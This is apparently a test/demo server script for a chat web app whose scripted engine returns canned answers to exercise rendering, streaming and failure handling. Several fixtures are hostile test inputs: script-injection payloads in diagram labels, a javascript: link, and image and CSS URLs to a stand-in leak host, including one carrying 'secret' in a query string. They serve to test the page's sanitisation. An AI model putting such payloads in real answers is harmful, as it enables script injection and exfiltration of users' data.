"""Serves the demo page with the real services and the scripted engine, as a process of its own.

python serve_demo.py HOME PORT [HOST]     The script played depends on the question; see `script`.
"""

import asyncio
import os
import sys
from collections.abc import Sequence
from pathlib import Path

from starlette.requests import Request
from starlette.responses import JSONResponse
from starlette.routing import Route

from twokeys.config import load_config
from twokeys.engines.scripted import End, Fail, Say, ScriptedEngine, Stall, Step
from twokeys.errors import EngineDied
from twokeys.services import build_services
from twokeys.types import GenerationRequest, Settings
from twokeys.web.entry import load_entry
from twokeys.web.server import serve
from twokeys.web.site import Site

PAGES = ("compare", "handbook")
MARKDOWN = (Path(__file__).parent / "answer.md").read_text(encoding="utf-8")

TABLE = (
    '[{"part": "螺丝 M6", "count": 12345678901234567890, "in stock": true, '
    '"sizes": ["S", "L"], "note": null},\n'
    '{"part": "a <b> \\"quoted\\"\\nsecond line", "count": 1.10, "in stock": false, "sizes": [], '
    '"note": {"by": "Ann", "rows": [{"a": 1}]}}]'
)


DIAGRAMS = {
    "flow": "flowchart TD\n  A[提出问题] -->|先看| B{Is it known?}\n"
    "  B -->|是| C[Answer at once]\n  B -->|否| D[查资料]\n  D --> C\n",
    "wide": "flowchart LR\n  " + " --> ".join(f"S{n}[Step number {n}]" for n in range(1, 15)) + "\n",
    "broken": "flowchart TD\n  A[never closed --> B{{\n  --> -->\n",
    "huge": "flowchart TD\n  A --> B\n" + f"  %% {'x' * 20_000}\n",
    "script": "flowchart TD\n"
    "  A[\"<img src=x onerror='window.ran=1'><script>window.ran=1</script>\"] --> B[end]\n"
    '  click A href "javascript:window.ran=1"\n',
    "fetch": '%%{init: {"themeCSS": "@import url(https://leak.example/a.css);", "htmlLabels": true}}%%\n'
    'flowchart TD\n  A["<img src=https://leak.example/b.png>"] --> B\n',
    "picture": 'flowchart TD\n  A@{ img: "https://leak.example/e.png", label: "x" } --> B\n',
}


def diagram_answer(names: Sequence[str]) -> str:
    """Return an answer with these of the diagrams, each in a fence, and a sentence behind them."""
    fences = "".join(f"```mermaid\n{DIAGRAMS[name]}```\n\n" for name in names)
    return f"How it goes:\n\n{fences}That is all."


def long_answer(tokens: int) -> str:
    """Return about so many tokens of the sample answer, repeated."""
    from twokeys.engines.scripted import split_tokens

    pieces = split_tokens(MARKDOWN + "\n\n")
    return "".join((pieces * (tokens // len(pieces) + 1))[:tokens])


def script(request: GenerationRequest) -> Sequence[Step]:
    question = request.messages[-1].content
    words = question.split()
    kind = words[0] if words else ""
    if kind == "long":
        return [Say(long_answer(int(words[1])), 1 / float(words[2]))]
    if kind == "slow":
        return [Say("word " * 200, 0.05)]
    if kind == "stall":
        return [Say("Before the pause. "), Stall(5), Say("After it.")]
    if kind == "die":
        return [Say("Half an ans"), Fail(EngineDied(reason="signal 9", log=""))]
    if kind == "leak":
        return [
            Say(
                "![secret](https://leak.example/x.png?q=secret) and [click](https://out.example/) <img src=x>"
            )
        ]
    if kind == "diagram":
        return [Say(diagram_answer(words[1:]), 0.002)]
    if kind == "open":
        return [Say(f"```mermaid\n{DIAGRAMS['flow']}```\n\nNow more "), Say("word " * 200, 0.05)]
    if kind == "table":
        pace = 0.02 if "slowly" in words else 0
        return [
            Say(TABLE[:-12] if "half" in words else TABLE, pace),
            End("length" if "half" in words else "stop"),
        ]
    if kind == "cut":
        return [Say("The first half of a sentence that", 0.001), End("length")]
    if kind == "emoji":
        return [Say("🙂 你好 👩‍👩‍👧 " * 40 + "end", 0.004)]
    return [Say(MARKDOWN, 0.002)]


def main() -> None:
    home, port = sys.argv[1], int(sys.argv[2])
    host = sys.argv[3] if len(sys.argv) > 3 else "127.0.0.1"
    config = load_config({**os.environ, "TWOKEYS_HOME": home})
    start_s = float(os.environ.get("DEMO_START_S", "0"))
    engine = ScriptedEngine(
        script, model="demo", context=16384, start_s=start_s, prompt_s=start_s / 2, memory=123_456_789
    )
    services = build_services(config, engine=engine)
    conversation = services.conversations.new(
        Settings(guard=dict.fromkeys(("loop", "decay", "drift", "uncertainty"), "off")), title="demo"
    )
    print(f"conversation {conversation.id}", flush=True)
    page = os.environ.get("DEMO_PAGE")

    async def ask(request: Request) -> JSONResponse:
        await asyncio.to_thread(services.answers.send, conversation.id, (await request.json())["text"])
        return JSONResponse({})

    serve(
        services,
        Site(Path(page) if page else Path(__file__).parent / "demo_app.py", PAGES),
        host,
        port,
        open_browser=False,
        entry=load_entry(config.home) if "DEMO_ENTRY" in os.environ else None,
        allowed_hosts=os.environ.get("DEMO_HOSTS", "").split(),
        base_path=os.environ.get("DEMO_BASE", ""),
        trusted_proxies=os.environ.get("DEMO_PROXIES", "").split(),
        routes=[Route("/demo/ask", ask, methods=["POST"])],
    )


if __name__ == "__main__":
    main()
